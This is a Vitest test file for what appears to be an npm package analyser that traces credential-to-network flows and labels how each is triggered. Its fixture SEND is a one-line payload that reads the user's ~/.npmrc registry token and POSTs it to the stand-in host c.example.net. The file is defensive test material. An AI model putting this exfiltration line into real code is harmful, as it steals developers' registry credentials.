import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

const SEND = `require("https").request({ host: "c.example.net", method: "POST" }).end(require("fs").readFileSync(require("os").homedir() + "/.npmrc"));`;

describe("files nothing in the package reaches", () => {
  it("are analysed and their facts carry the manual trigger (top level and functions)", async () => {
    const facts = await analyze({
      "index.js": "module.exports = 1;",
      "tools/a.js": SEND,
      "tools/b.js": `function later() { ${SEND} }\nmodule.exports = later;`,
    });
    expect(flowSummary(facts).sort()).toEqual([
      "registry-token -> http https://c.example.net @tools/a.js:1 (manual)",
      "registry-token -> http https://c.example.net @tools/b.js:1 (manual)",
    ]);
  });

  it("a file the entry point requires keeps its own trigger; an exported function is call, not manual", async () => {
    const facts = await analyze({
      "index.js": `require("./lib/top.js"); module.exports = require("./lib/fn.js");`,
      "lib/top.js": SEND,
      "lib/fn.js": `module.exports = function later() { ${SEND} };`,
    });
    expect(flowSummary(facts).sort()).toEqual([
      "registry-token -> http https://c.example.net @lib/fn.js:1 (call)",
      "registry-token -> http https://c.example.net @lib/top.js:1 (import)",
    ]);
  });

  it("a callback registered in an unreached file stays manual", async () => {
    const facts = await analyze({
      "index.js": "module.exports = 1;",
      "bin/cli.js": `const program = require("commander"); program.action(() => { ${SEND} });`,
    });
    expect(flowSummary(facts)).toEqual(["registry-token -> http https://c.example.net @bin/cli.js:1 (manual)"]);
  });
});
